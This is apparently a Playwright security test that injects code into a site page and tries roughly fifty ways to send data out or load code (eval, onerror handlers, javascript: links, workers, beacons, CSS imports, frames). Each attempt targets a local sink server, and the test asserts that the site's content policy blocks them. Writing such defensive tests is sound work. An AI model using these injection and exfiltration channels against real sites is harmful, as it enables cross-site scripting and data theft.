import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test as base } from '@playwright/test'
import { recordAudit } from '#test/release/audits/results.ts'

type Breach = {
  /** Tries every exfiltration channel and lists those for which the page saw no error. */
  tryAll: (sink: string) => Promise<{ tried: string[]; silent: string[] }>
}

declare global {
  var breach: Breach
}

/** A host on another origin that records all requests. */
const test = base.extend<{ sink: { origin: string; seen: string[] } }>({
  sink: async ({ context }, use) => {
    const seen: string[] = []
    const server = createServer(({ url = '' }, response) => {
      seen.push(url)
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' })
      response.end('<!doctype html><title>Stolen</title>')
    })
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
    await use({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen })
    await context.close()
    server.close()
    server.closeAllConnections()
  },
})

/** Runs in the page, as injected code would. */
function attacker() {
  const make = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const link =
    (rel: string, more: Record<string, string> = {}) =>
    (href: string) =>
      make('link', { rel, href, ...more })
  const style = (text: string) => {
    const element = document.createElement('style')
    element.textContent = text
    document.body.append(element)
  }
  const blob = (text: string, type = 'text/javascript') =>
    URL.createObjectURL(new Blob([text], { type }))
  const policy = (name: string) => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: {
        createPolicy: (
          name: string,
          rules: Record<string, (text: string) => string>,
        ) => Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => string>
      }
    }
    const same = (text: string) => text
    return trustedTypes.createPolicy(name, {
      createHTML: same,
      createScript: same,
      createScriptURL: same,
    })
  }
  const code = (to: string) => `fetch(${JSON.stringify(to)}); globalThis.breached = true`
  const script = (attribute: 'src' | 'text', value: string) => {
    const element = document.createElement('script')
    Object.assign(element, { [attribute]: value })
    document.body.append(element)
  }
  const run = Reflect.get(globalThis, 'eval') as (text: string) => unknown
  const load = (address: string) => import(/* @vite-ignore */ address)

  const channels: Record<string, (to: string) => unknown> = {
    'inline script': (to) => script('text', code(to)),
    'inline script under a policy': (to) => script('text', policy('a').createScript(code(to))),
    'script of another origin': (to) => script('src', to),
    'script of another origin under a policy': (to) =>
      script('src', policy('b').createScriptURL(to)),
    'data script': (to) =>
      script('src', policy('c').createScriptURL(`data:text/javascript,${code(to)}`)),
    'blob script': (to) => script('src', policy('d').createScriptURL(blob(code(to)))),
    'import of another origin': (to) => load(to),
    'import of data': (to) => load(`data:text/javascript,${code(to)}`),
    'import of a blob': (to) => load(blob(code(to))),
    'event handler': (to) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        policy('e').createHTML(`<img src=/x onerror="${code(to)}">`),
      )
    },
    'event handler attribute': (to) => make('img', { src: '/x', onerror: code(to) }),
    'markup without a policy': (to) => (document.body.innerHTML = `<img src="${to}">`),
    'javascript address': (to) => {
      const anchor = make('a', { href: `javascript:${code(to)}` })
      anchor.click()
    },
    eval: (to) => run(code(to)),
    'eval under a policy': (to) => run(policy('f').createScript(code(to))),
    'new Function': (to) => (Reflect.construct(Function, [code(to)]) as () => unknown)(),
    'string timer': (to) => void Reflect.apply(setTimeout, undefined, [code(to), 0]),
    'worker of another origin': (to) => new Worker(policy('g').createScriptURL(to)),
    'data worker': (to) =>
      new Worker(policy('h').createScriptURL(`data:text/javascript,${code(to)}`)),
    'request of a blob worker': (to) =>
      new Promise((_, reject) => {
        const text = `fetch(${JSON.stringify(to)}, { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))`
        const worker = new Worker(policy('i').createScriptURL(blob(text)))
        worker.addEventListener('message', ({ data }) => data === 0 && reject(new Error('blocked')))
      }),
    'shared worker': (to) => new SharedWorker(policy('j').createScriptURL(to)),
    'service worker': (to) => navigator.serviceWorker.register(policy('k').createScriptURL(to)),
    frame: (to) => make('iframe', { src: to }),
    'data frame': (to) => make('iframe', { src: `data:text/html,<script src="${to}"></script>` }),
    'markup frame': (to) => {
      Object.assign(make('iframe', {}), { srcdoc: policy('l').createHTML(`<img src="${to}">`) })
    },
    object: (to) => make('object', { data: to }),
    embed: (to) => make('embed', { src: to }),
    'base address': (to) =>
      document.head.append(Object.assign(document.createElement('base'), { href: to })),
    form: (to) => {
      const form = document.createElement('form')
      Object.assign(form, { action: to, method: 'post' })
      document.body.append(form)
      form.submit()
    },
    fetch: (to) => fetch(to, { mode: 'no-cors' }),
    'kept-alive fetch': (to) => fetch(to, { mode: 'no-cors', keepalive: true }),
    XMLHttpRequest: (to) =>
      new Promise((_, reject) => {
        const request = new XMLHttpRequest()
        request.addEventListener('error', () => reject(new Error('blocked')))
        request.open('GET', to)
        request.send()
      }),
    beacon: (to) => navigator.sendBeacon(to, 'x'),
    'web socket': (to) => new WebSocket(to.replace('http', 'ws')),
    'event source': (to) => new EventSource(to),
    picture: (to) => make('img', { src: to }),
    film: (to) => make('video', { src: to, preload: 'auto' }),
    sound: (to) => make('audio', { src: to, preload: 'auto' }),
    'style sheet': (to) => link('stylesheet')(to),
    'inline style': (to) => style(`@import "${to}"`),
    'picture of a style': (to) => {
      document.body.style.backgroundImage = `url("${to}")`
    },
    font: (to) => new FontFace('x', `url("${to}")`).load(),
    prefetch: (to) => link('prefetch')(to),
    preload: (to) => link('preload', { as: 'image' })(to),
    'module preload': (to) => link('modulepreload')(to),
    ping: (to) => {
      const anchor = make('a', { href: '#here', ping: to })
      anchor.click()
    },
  }

  const TIMEOUT_MS = 60_000
  /** Returns false if an exception or a policy violation reports that the channel is blocked. */
  const isSilent = (send: (to: string) => unknown, to: string) =>
    new Promise<boolean>((resolve) => {
      const timer = setTimeout(() => resolve(true), TIMEOUT_MS)
      const stopped = () => {
        clearTimeout(timer)
        removeEventListener('securitypolicyviolation', stopped)
        resolve(false)
      }
      addEventListener('securitypolicyviolation', stopped)
      Promise.resolve()
        .then(() => send(to))
        .catch(stopped)
    })

  globalThis.breach = {
    async tryAll(sink) {
      const silent: string[] = []
      for (const [name, send] of Object.entries(channels)) {
        if (await isSilent(send, `${sink}/${encodeURIComponent(name)}`)) silent.push(name)
        // Waits for further reports, because a channel may be blocked twice and a report must not
        // count for the next one.
        for (let frame = 0; frame < 3; frame++) await new Promise(requestAnimationFrame)
      }
      return { tried: Object.keys(channels), silent }
    },
  }
}

/**
 * Channels that no policy can block; they show that the sink works. `refresh` and `navigation`
 * leave the page.
 */
const OPEN = ['window', 'refresh', 'navigation']

test('injected code can send data only by unblockable channels [XS-16]', async ({
  page,
  context,
  sink,
}) => {
  await page.goto('/about')
  await page.evaluate(attacker)
  const { tried, silent } = await page.evaluate((to) => globalThis.breach.tryAll(to), sink.origin)
  const breached = await page.evaluate(() => (globalThis as { breached?: true }).breached)

  const opened = context.waitForEvent('page')
  await page.evaluate((to) => void window.open(`${to}/window`), sink.origin)
  await (await opened).waitForURL(`${sink.origin}/window`)
  await page.evaluate((to) => {
    const refresh = document.createElement('meta')
    refresh.httpEquiv = 'refresh'
    refresh.content = `0; url=${to}/refresh`
    document.head.append(refresh)
  }, sink.origin)
  await page.waitForURL(`${sink.origin}/refresh`)
  await page.goto('/about')
  await page.evaluate((to) => location.assign(`${to}/navigation`), sink.origin)
  await page.waitForURL(`${sink.origin}/navigation`)

  const reached = new Set(sink.seen.map((path) => decodeURIComponent(path.slice(1))))
  reached.delete('favicon.ico')
  const rows = [...tried, ...OPEN].map((name) => {
    const isRefused = !reached.has(name) && !silent.includes(name)
    const isKnown = OPEN.includes(name)
    const result = isRefused ? 'refused' : isKnown ? 'open, as on every site' : 'NOT REFUSED'
    return { name, result, isGood: isRefused || isKnown }
  })
  const refused = rows.filter(({ result }) => result === 'refused').length
  recordAudit({
    tool: 'Breach drill',
    of: 'a page of the site',
    goal: 'of 41 ways for code in a page to get data out or code in, 37 refused',
    result: `of ${rows.length} ways, ${refused} refused`,
    isMet: refused >= 37 && rows.every(({ isGood }) => isGood),
    rows,
  })
  expect(rows.filter(({ isGood }) => !isGood)).toEqual([])
  expect([...reached].toSorted()).toEqual(OPEN.toSorted())
  expect(breached).toBeUndefined()
  expect(rows.length).toBeGreaterThanOrEqual(41)
  expect(refused).toBeGreaterThanOrEqual(37)
})
